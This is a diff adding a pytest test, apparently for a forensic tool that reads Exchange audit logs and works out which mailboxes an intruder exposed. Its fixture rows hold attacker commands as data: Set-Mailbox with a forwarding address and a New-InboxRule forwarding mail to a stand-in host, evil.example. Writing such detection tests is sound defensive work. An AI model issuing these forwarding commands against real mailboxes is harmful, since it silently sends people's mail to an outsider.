@@ -167,6 +167,15 @@ def test_mail_sent_on_in_an_intruders_session_is_his_and_what_owners_set_is_thei
     assert {name for name, grade in grades.items() if grade is Grade.DOWNLOADED} == {STOLEN[0]}
 
 
+@pytest.mark.parametrize(("his", "exposed"), [(2, {PEOPLE[9]}), (1, set())])
+def test_mail_sent_on_to_where_his_acts_send_it_is_his(his: int, exposed: set[str], tmp_path: Path) -> None:
+    told = '-ForwardingSmtpAddress "smtp:x@evil.example"'
+    ran = [(_at(20, 3, 60), "Set-Mailbox", f'-Identity "{one}" {told}', f"gov/Users/{one}") for one in STOLEN[:his]]
+    rule = f'-Mailbox "{PEOPLE[9]}" -Name "." -ForwardTo "X@evil.example"'
+    case = _office(tmp_path, _readers(range(20, 44, 3)), [*ran, (_at(9, 15), "New-InboxRule", rule, "gov/Users/adm")])
+    assert {one.mailbox for one in case.exposed} == {*STOLEN, *exposed}
+
+
 def _tried(people: Sequence[str], *, day: int = 19, let_in: Sequence[str] = ()) -> list[dict[str, object]]:
     rows: list[dict[str, object]] = []
     for place, one in enumerate(people):
